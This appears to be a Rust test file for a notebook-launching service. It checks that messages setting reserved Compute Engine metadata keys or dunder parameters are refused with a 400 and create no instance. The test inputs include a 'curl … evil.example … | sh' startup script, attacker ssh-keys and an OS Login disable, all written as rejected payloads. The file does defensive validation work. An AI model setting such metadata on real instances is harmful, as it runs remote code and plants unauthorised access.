//! What no message may set, over a real socket: instance metadata keys that Compute Engine,
//! Workbench or the runner read, and dunder parameter names, each refused with 400 naming it
//! (so it ends in the dead-letter topic) before the Notebooks API is called, even when
//! `ALLOWED_OVERRIDES` lists `metadata` and `parameters`; and a deployment whose own profile
//! sets one does not start.

use crate::helpers::spawn_app;
use crate::run_launch::{created, spawn_runs};

#[tokio::test]
async fn reserved_metadata_keys_are_400_naming_the_key_and_create_nothing() {
    let app = spawn_app(&[("ALLOWED_OVERRIDES", "metadata,labels")]).await;
    let cases = [
        (
            r#"{"overrides":{"metadata":{"startup-script":"curl -s https://evil.example/x | sh"}}}"#,
            "startup-script",
            "as code on the VM, as root",
        ),
        (
            r#"{"metadata":{"startup-script-url":"gs://evil/x.sh"}}"#,
            "startup-script-url",
            "as code",
        ),
        (
            r#"{"metadata":{"Windows-Startup-Script-PS1":"iex x"}}"#,
            "Windows-Startup-Script-PS1",
            "as code",
        ),
        (
            r#"{"metadata":{"ssh-keys":"root:ssh-ed25519 AAAA evil"}}"#,
            "ssh-keys",
            "who can log in",
        ),
        (
            r#"{"metadata":{"enable-oslogin":"FALSE"}}"#,
            "enable-oslogin",
            "who can log in",
        ),
        (
            r#"{"metadata":{"post-startup-script":"gs://evil/x.sh"}}"#,
            "post-startup-script",
            "post_startup_script",
        ),
        (
            r#"{"metadata":{"notebook-disable-root":"false"}}"#,
            "notebook-disable-root",
            "only the deployment's profile",
        ),
        (
            r#"{"metadata":{"notebook-trigger-parameters":"{}"}}"#,
            "notebook-trigger-parameters",
            "runner",
        ),
    ];
    for (n, (payload, key, why)) in cases.iter().enumerate() {
        let (status, answer) = app.push(&format!("m-{n}"), payload).await;
        assert_eq!(status, 400, "{payload}: {answer}");
        let error = answer["error"].as_str().unwrap();
        assert!(
            error.contains(&format!("metadata key `{key}` cannot be set by a message"))
                && error.contains(why),
            "{payload}: {error}"
        );
    }
    assert!(app.instances().is_empty(), "a refusal created an instance");
    assert_eq!(
        app.emulator.request_count(),
        0,
        "a refusal reached the Notebooks API"
    );

    let (status, answer) = app
        .push("m-ok", r#"{"metadata":{"dataset-version":"7"}}"#)
        .await;
    assert_eq!(status, 200, "the deployment's own keys pass: {answer}");
    let body = &app.emulator.create_requests()[0].body;
    assert_eq!(
        body["gceSetup"]["metadata"]["dataset-version"], "7",
        "{body}"
    );
}

#[tokio::test]
async fn dunder_parameters_are_400_naming_the_parameter_and_create_nothing() {
    let app = spawn_runs(&[("ALLOWED_OVERRIDES", "parameters")]).await;
    for (n, name) in ["__builtins__", "__import__", "__x"].iter().enumerate() {
        let payload = format!(r#"{{"parameters":{{"rows":1,"{name}":{{}}}}}}"#);
        let (status, answer) = app.push(&format!("p-{n}"), &payload).await;
        assert_eq!(status, 400, "{payload}: {answer}");
        let error = answer["error"].as_str().unwrap();
        assert!(error.contains(&format!("`{name}`")), "{payload}: {error}");
    }
    assert!(app.instances().is_empty());
    assert_eq!(app.emulator.request_count(), 0);
    let (status, answer) = app.push("p-ok", r#"{"parameters":{"_rows":1}}"#).await;
    assert_eq!(status, 200, "{answer}");
    assert!(
        created(&app)["gceSetup"]["metadata"]["notebook-trigger-parameters"]
            .as_str()
            .unwrap()
            .contains("\"_rows\":1")
    );
}

/// Start-up with the test deployment's variables and `extra`: the error it stops with.
async fn refused_start(extra: &[(&str, &str)]) -> String {
    let mut vars = vec![
        ("GOOGLE_CLOUD_PROJECT", "p"),
        ("NOTEBOOK_LOCATION", "us-central1-a"),
        ("CONTAINER_IMAGE", "us-docker.pkg.dev/p/r/img"),
        ("RUNNER_SCRIPT", "gs://runs-bucket/runner.sh"),
        ("SERVICE_URL", "https://trigger.example"),
    ];
    vars.extend_from_slice(extra);
    crate::helpers::refused_start(&vars).await
}

#[tokio::test]
async fn a_profile_with_a_startup_script_or_a_dunder_parameter_does_not_start() {
    let said = refused_start(&[("INSTANCE_METADATA", "team=ml,startup-script=reboot")]).await;
    assert!(
        said.contains("INSTANCE_METADATA") && said.contains("`startup-script`"),
        "{said}"
    );
    let said = refused_start(&[
        ("NOTEBOOK", "gs://runs-bucket/nb/seed.ipynb"),
        ("NOTEBOOK_OUTPUT", "gs://runs-bucket/runs"),
        ("NOTEBOOK_PARAMETERS", r#"{"rows": 3, "__builtins__": {}}"#),
    ])
    .await;
    assert!(
        said.contains("NOTEBOOK_PARAMETERS") && said.contains("`__builtins__`"),
        "{said}"
    );
}
